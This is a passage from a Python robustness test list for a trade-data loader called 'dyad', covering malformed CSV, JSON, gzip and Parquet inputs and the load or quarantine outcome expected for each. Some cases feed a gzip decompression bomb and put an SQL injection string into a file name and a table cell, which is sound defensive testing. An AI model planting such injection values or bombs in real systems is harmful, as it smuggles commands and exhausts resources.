              "line 2", 1, what_dyad_does="line 2 quarantined: '14 fields where the header has 11'; line 3 loads"),
    TableCase("CSV with a UTF-8 BOM", "tables/bom.csv", b"\xef\xbb\xbf" + published(PUBLISHED_ROW), "", "", 1,
              what_dyad_does="loaded; the BOM is not part of the first column's name"),
    TableCase("CSV in cp1251", "tables/cp1251.csv",
              published(PUBLISHED_ROW.replace("Statistics office", "Министерство")).decode().encode("cp1251"),
              "", "", 1, what_dyad_does="loaded"),
    TableCase("CSV with mixed line endings", "tables/endings.csv",
              PUBLISHED_HEADER.replace("\n", "\r\n").encode() + PUBLISHED_ROW.encode()
              + PUBLISHED_ROW.replace("2021", "2020").replace("\n", "\r\n").encode(), "", "", 2,
              what_dyad_does="loaded"),
    TableCase("a truncated gzip file", "tables/cut.csv.gz",
              gzip.compress(published(*[PUBLISHED_ROW] * 200), mtime=0)[:80], "gzip", "file", 0,
              what_dyad_does="quarantined: 'truncated or corrupt gzip file: ...'"),
    TableCase("a .gz name on a file that is not gzipped", "tables/plain.csv.gz", published(PUBLISHED_ROW), "", "", 1,
              what_dyad_does="loaded: the format is told from the bytes, not the name"),
    TableCase("a corrupt Parquet file", "tables/corrupt.parquet", b"PAR1" + RANDOM_BYTES[:100], "parquet", "file", 0,
              what_dyad_does="quarantined: 'not a readable Parquet file: ...'"),
    TableCase("malformed JSON", "tables/malformed.json", b'{"data": [{"typeCode": "C", ', "not valid JSON", "file", 0,
              what_dyad_does="quarantined: 'not valid JSON: ...'"),
    TableCase("a JSON response with 'error' set", "tables/rate_limited.json",
              json.dumps({"error": "rate limit exceeded", "data": []}).encode(), "rate limit exceeded", "file", 0,
              what_dyad_does="quarantined: 'the response holds an error and no data: rate limit exceeded'"),
    TableCase("a JSON response with 'error' set and data null", "tables/error_null.json",
              json.dumps({"error": "bad query", "data": None}).encode(), "bad query", "file", 0,
              what_dyad_does="quarantined: 'the response holds an error and no data: bad query'"),
    TableCase("deeply nested JSON", "tables/nested.json", b"[" * 100_000 + b"]" * 100_000, "not valid JSON", "file", 0,
              what_dyad_does="quarantined: 'not valid JSON: nested too deeply to read'"),
    TableCase("a negative value (Comtrade)", "tables/comtrade_negative.csv", v1(v1_value("-5")), "value_usd",
              "line 2", 0, what_dyad_does="quarantined by the fact_trade audit: value_usd -5 below 0"),
    TableCase("an absurd value (Comtrade, 1e300 USD)", "tables/comtrade_absurd.csv", v1(v1_value("1e300")),
              "value_usd", "line 2", 0, what_dyad_does="quarantined by the fact_trade audit: value_usd above 1e13"),
    TableCase("a thousands separator ('1,234.5', Comtrade)", "tables/comtrade_thousands.csv",
              v1(v1_value('"1,234.5"')), "trade value '1,234.5' is not a number", "line 2", 0,
              what_dyad_does="quarantined: \"trade value '1,234.5' is not a number\""),
    TableCase("'n/a' as a number (Comtrade)", "tables/comtrade_na.csv", v1(v1_value("n/a")),
              "trade value 'n/a' is not a number", "line 2", 0,
              what_dyad_does="quarantined: \"trade value 'n/a' is not a number\""),
    TableCase("an unknown country code (Comtrade)", "tables/comtrade_unknown_country.csv",
              v1(V1_ROW.replace(",31,,,X", ",777,,,X")), "reporter code 777 is not in the country code map",
              "line 2", 0, what_dyad_does="quarantined: 'reporter code 777 is not in the country code map: not guessed'"),
    TableCase("an unknown product code (Comtrade)", "tables/comtrade_unknown_product.csv",
              v1(V1_ROW.replace(",TOTAL,", ",7777,")), "HS chapter 77 is not in the HS reference", "line 2", 0,
              what_dyad_does="quarantined: 'HS chapter 77 is not in the HS reference'"),
    TableCase("a period that is not a period (Comtrade month 13)", "tables/comtrade_month13.csv",
              v1(V1_ROW.replace(",2022,52,2022,", ",2022,13,2022,")),
              "period '202213' is not a year (YYYY) or a month (YYYYMM)", "line 2", 0,
              what_dyad_does="quarantined: \"period '202213' is not a year (YYYY) or a month (YYYYMM)\""),
    TableCase("duplicate rows (Comtrade)", "tables/comtrade_duplicates.csv", v1(V1_ROW, V1_ROW),
              "a later row of the same file has the same reporter", "line 2", 1,
              what_dyad_does="the earlier row is quarantined, the later one loads"),
    TableCase("its header repeated inside (Comtrade)", "tables/comtrade_header_again.csv", v1(V1_ROW, V1_HEADER),
              "is not a year", "line 3", 1, what_dyad_does="the repeated header line is quarantined"),
    TableCase("a JSON record with wrong types (Comtrade)", "tables/comtrade_types.json",
              json.dumps({"data": [{**V1_JSON_RECORD, "primaryValue": "lots", "refYear": [2022]}]}).encode(),
              "", "record 1", 0, what_dyad_does="quarantined record 1 (its period is not a year)"),
    TableCase("BACI rows with bad values", "tables/BACI_HS17_Y2021_V202401.csv",
              b"t,i,j,k,v,q\n2021,31,112,270900,abc,1\n2021,31,112,280000,-3,1\n2021,31,112,290000,1.5,2\n",
              "trade value 'abc' is not a number", "line 2", 1,
              what_dyad_does="line 2 ('abc') and line 3 (negative) quarantined, line 4 loads"),
    TableCase("a JSON response with a UTF-8 byte-order mark", "tables/bom.json",
              b"\xef\xbb\xbf" + json.dumps({"data": [V1_JSON_RECORD]}).encode(), "", "", 1,
              what_dyad_does="loaded: the byte-order mark is not part of the JSON"),
    TableCase("a UTF-16 CSV of published figures", "tables/utf16.csv", published(PUBLISHED_ROW).decode().encode("utf-16"),
              "", "", 1, what_dyad_does="loaded: read through a UTF-8 copy, streamed"),
    TableCase("a UTF-16 Comtrade CSV without a byte-order mark", "tables/comtrade_utf16.csv",
              v1(V1_ROW).decode().encode("utf-16-le"), "", "", 1,
              what_dyad_does="loaded: the alternating NUL bytes give UTF-16 away"),
    TableCase("pandas-style floats in a Comtrade JSON (refYear: 2022.0)", "tables/comtrade_floats.json",
              json.dumps({"data": [{**V1_JSON_RECORD, "refYear": 2022.0, "refMonth": 52.0, "reporterCode": 31.0,
                                    "partnerCode": 112.0}]}).encode(), "", "", 1,
              what_dyad_does="loaded: integral codes written as floats are the same codes"),
    TableCase("pandas-style floats in a Comtrade CSV (2022.0)", "tables/comtrade_floats.csv",
              v1(V1_ROW.replace(",2022,52,2022,31,", ",2022.0,52.0,2022,31.0,")), "", "", 1,
              what_dyad_does="loaded: integral codes written as floats are the same codes"),
    TableCase("one unclosed quote (Comtrade CSV)", "tables/comtrade_quote.csv",
              v1(V1_ROW.replace(",Export,", ',"Export,'), V1_ROW.replace("2022", "2021")), "unclosed or stray quote",
              "line 2", 1, what_dyad_does="line 2 quarantined: 'not valid CSV: an unclosed or stray quote'; line 3 "
                                         "loads (the quote does not swallow the lines after it)"),
    TableCase("a quoted field holding a line break (Comtrade cmdDesc 'Cotton, raw<break>and carded')",
              "tables/comtrade_break.csv",
              v1(V1_ROW.replace(",TOTAL,,", ',TOTAL,"Cotton, raw\nand carded",'), V1_ROW.replace("2022", "2021")),
              "", "", 2, what_dyad_does="loaded (RFC 4180): the record spans two lines and keeps the number of its "
                                        "first; the next record is line 4 (tests/robustness/test_quoted_line_breaks.py)"),
    TableCase("a quoted note holding a line break beside an unclosed quote (published)", "tables/reported_break.csv",
              published(PUBLISHED_ROW.replace("Statistics office", '"Statistics office,\nfirst estimate"'),
                        PUBLISHED_ROW.replace(",424400000", ',"424400000').replace("2021", "2020"),
                        PUBLISHED_ROW.replace("2021", "2019")),
              "unclosed or stray quote", "line 4", 2,
              what_dyad_does="lines 2-3 load as one record; line 4 quarantined: 'not valid CSV: an unclosed or stray "
                             "quote'; line 5 loads"),
    TableCase("two stray quotes with good lines between them (published)", "tables/reported_strays.csv",
              published(PUBLISHED_ROW.replace("Statistics office", '"Statistics office'),
                        PUBLISHED_ROW.replace("2021", "2020"), PUBLISHED_ROW.replace("2021", "2019"),
                        PUBLISHED_ROW.replace("Statistics office", 'Statistics office"').replace("2021", "2018")),
              "unclosed or stray quote", "line 2", 2,
              what_dyad_does="lines 2 and 5 quarantined ('an unclosed or stray quote'), lines 3-4 load: a line that is "
                             "a whole record by itself never becomes part of a quoted field (else the pair would "
                             "read as one valid record and swallow the lines between)"),
    TableCase("an unquoted comma in a legacy Comtrade commodity name", "tables/legacy_comma.csv",
              legacy(LEGACY_ROW.format(name="Milk, cream"), LEGACY_ROW.format(name="Milk").replace("2021", "2020")),
              "36 fields where the header has 35", "line 2", 1,
              what_dyad_does="line 2 quarantined ('36 fields where the header has 35: a comma inside a value that "
                             "is not quoted would shift every later column'): its gross weight is never loaded as "
                             "its trade value; line 3 loads"),
    TableCase("a Comtrade data list holding a non-object", "tables/comtrade_nonobject.json",
              json.dumps({"data": [V1_JSON_RECORD, 5, "x", None]}).encode(), "not a JSON object but int",
              "record 2", 1, what_dyad_does="records 2-4 quarantined ('record is not a JSON object'); record 1 loads"),
    TableCase("a Comtrade 'data' that is not a list", "tables/comtrade_data_object.json",
              json.dumps({"data": {"refYear": 2022}}).encode(), "not a table layout", "file", 0,
              what_dyad_does="quarantined: 'not a table layout dyad reads'"),
    TableCase("a gzip bomb of published figures", "tables/bomb.csv.gz", _bomb(), "decompression bomb", "file", 0,
              what_dyad_does="quarantined while streaming: 'a decompression bomb: N bytes of gzip unpack to more "
                             "than M (over 200 times)', after 16 MB, never the whole"),
    TableCase("CR-only line ends (published figures, classic Mac)", "tables/cr_published.csv",
              published(PUBLISHED_ROW, PUBLISHED_ROW.replace("2021", "2020")).replace(b"\n", b"\r"), "", "", 2,
              what_dyad_does="loaded through a copy with LF line ends (was: read as one header line, 0 rows, nothing "
                             "quarantined)"),
    TableCase("CR-only line ends (Comtrade)", "tables/cr_comtrade.csv",
              v1(V1_ROW, V1_ROW.replace("2022", "2021")).replace(b"\n", b"\r"), "", "", 2,
              what_dyad_does="loaded (was: the whole file quarantined, 'new-line character seen in unquoted field')"),
    TableCase("Excel's 'sep=;' first line", "tables/excel_sep.csv",
              b"sep=;\n" + published(PUBLISHED_ROW, "2020-01;2020-12;turnover;AZE;BLR;n/a;;;;;\n".replace(";", ",")
                                      ).replace(b",", b";"),
              "value_usd is not a number", "line 4", 1,
              what_dyad_does="loaded as a semicolon file without the hint line; rows keep the file's own line numbers "
                             "(the bad row is 'line 4')"),
    TableCase("semicolons with decimal commas (a European locale)", "tables/semicolon.csv",
              published(PUBLISHED_ROW.replace("424400000", "4244,5")).replace(b",", b";").replace(b"4244;5", b"4244,5"),
              "", "", 1, what_dyad_does="loaded: ';' is the delimiter, '4244,5' is 4244.5 (a comma followed by digits, "
                                       "dots between thousands: '1.234.567,25')"),
    TableCase("tab-separated Comtrade", "tables/comtrade.tsv", v1(V1_ROW).replace(b",", b"\t"), "", "", 1,
              what_dyad_does="loaded: the delimiter is told from the header"),
    TableCase("a decimal comma in a comma-separated file ('4244,5' quoted)", "tables/decimal_comma.csv",
              published(PUBLISHED_ROW.replace("424400000", '"4244,5"')), "has a comma that does not separate thousands",
              "line 2", 0, what_dyad_does="quarantined: \"value_usd '4244,5' has a comma that does not separate "
                                          "thousands (a decimal comma?): not guessed\" (was loaded as 42445)"),
    TableCase("a period year out of range (published, 0000-01)", "tables/year0.csv",
              published(PUBLISHED_ROW.replace("2021-01,2021-12", "0000-01,0000-12")), "outside the years 1950-2100",
              "line 2", 0, what_dyad_does="quarantined: 'period 0000-01-01 to 0000-12-31 is outside the years 1950-2100' "
                                          "(was loaded as a figure for year 0)"),
    TableCase("a period year at the calendar's end (published, 9999-12)", "tables/year9999.csv",
              published(PUBLISHED_ROW.replace("2021-01,2021-12", "9999-01,9999-12")), "outside the years 1950-2100",
              "line 2", 0, what_dyad_does="quarantined, as Comtrade periods outside 1950-2100 are"),
    TableCase("a UTF-32 CSV with a byte-order mark", "tables/utf32.csv", published(PUBLISHED_ROW).decode().encode("utf-32"),
              "", "", 1, what_dyad_does="loaded through a UTF-8 copy (was 'binary content: not text')"),
    TableCase("a Windows-1252 CSV with curly quotes", "tables/cp1252.csv",
              published(PUBLISHED_ROW.replace("Statistics office", "“Statistics” office – 2021")).decode()
              .encode("cp1252"), "", "", 1, what_dyad_does="loaded"),
    TableCase("Comtrade JSON lines (one record a line)", "tables/comtrade.jsonl",
              (json.dumps(V1_JSON_RECORD) + "\n" + json.dumps({**V1_JSON_RECORD, "refYear": 2021, "period": "2021"})
               + "\n").encode(), "", "", 2,
              what_dyad_does="loaded, one record a line (was 'not valid JSON: Extra data')"),
    TableCase("a JSON-lines file with one broken line", "tables/comtrade_broken.jsonl",
              (json.dumps(V1_JSON_RECORD) + "\n{broken\n").encode(), "not valid JSON", "record 2", 1,
              what_dyad_does="record 2 quarantined: 'not valid JSON (...): the line is not a record'; record 1 loads"),
    TableCase("NaN as a JSON value", "tables/comtrade_nan.json",
              json.dumps({"data": [{**V1_JSON_RECORD, "primaryValue": float("nan")}]}).encode(), "value_usd",
              "record 1", 0, what_dyad_does="quarantined by the fact_trade audit: value_usd not_nullable (NaN)"),
    TableCase("Infinity as a JSON value", "tables/comtrade_inf.json",
              json.dumps({"data": [{**V1_JSON_RECORD, "primaryValue": float("inf")}]}).encode(), "value_usd",
              "record 1", 0, what_dyad_does="quarantined by the fact_trade audit: value_usd above 1e13"),
    TableCase("a 400-digit JSON integer", "tables/comtrade_huge.json",
              json.dumps({"data": [{**V1_JSON_RECORD, "primaryValue": 10**400}]}).encode(), "value_usd", "record 1", 0,
              what_dyad_does="quarantined by the fact_trade audit (read as inf, above 1e13)"),
    TableCase("numbers as strings in a Comtrade JSON", "tables/comtrade_strings.json",
              json.dumps({"data": [{k: str(v) if isinstance(v, (int, float)) and not isinstance(v, bool) else v
                                    for k, v in V1_JSON_RECORD.items()}]}).encode(), "", "", 1,
              what_dyad_does="loaded: every value is read as text and cast once"),
    TableCase("a Comtrade year out of range (refYear 1066)", "tables/comtrade_1066.csv",
              v1(V1_ROW.replace(",2022,52,2022,", ",1066,52,1066,")), "is not a year", "line 2", 0,
              what_dyad_does="quarantined: \"period '1066' is not a year (YYYY) or a month (YYYYMM)\" (1950-2100)"),
    TableCase("a Comtrade CSV header and no rows", "tables/comtrade_header_only.csv", (V1_HEADER + "\n").encode(),
              "", "", 0, what_dyad_does="read: 0 rows in, nothing quarantined"),
    TableCase("a header naming one column twice in two cases (primaryValue, PRIMARYVALUE)", "tables/comtrade_dup.csv",
              (V1_HEADER + ",PRIMARYVALUE\n" + V1_ROW + ",5\n").encode(), "twice", "file", 0,
              what_dyad_does="quarantined: 'the header names the column primaryvalue twice'"),
    TableCase("a zero-width space inside a country code", "tables/zero_width.csv",
              published(PUBLISHED_ROW.replace("AZE,BLR", "A\u200bZE,BLR")), "is not in dim_country", "line 2", 0,
              what_dyad_does="quarantined: the code is not guessed"),
    TableCase("a gzip inside a gzip (tables)", "tables/nested.csv.gz", gzip.compress(gzip.compress(published(PUBLISHED_ROW), mtime=0), mtime=0),
              "binary content", "file", 0, what_dyad_does="quarantined: 'binary content: not text' (archives are not "
                                                          "unpacked twice)"),
    TableCase("a zip archive holding a CSV", "tables/archive.zip", _zip({"a.csv": published(PUBLISHED_ROW).decode()}),
              "zip archive", "file", 0, what_dyad_does="quarantined: 'a zip archive or spreadsheet (xlsx): ... save it "
                                                       "as CSV'"),
    TableCase("SQL in a table file name", f"tables/{INJECTION}.csv", published(PUBLISHED_ROW), "", "", 1,
              what_dyad_does="loaded; the path is a query parameter, never part of a statement"),
    TableCase("SQL in a table cell", "tables/injection.csv",
              published(PUBLISHED_ROW.replace("Statistics office", INJECTION.replace(",", ""))), "", "", 1,
              what_dyad_does="loaded as text: cells reach DuckDB as Arrow frames"),
]
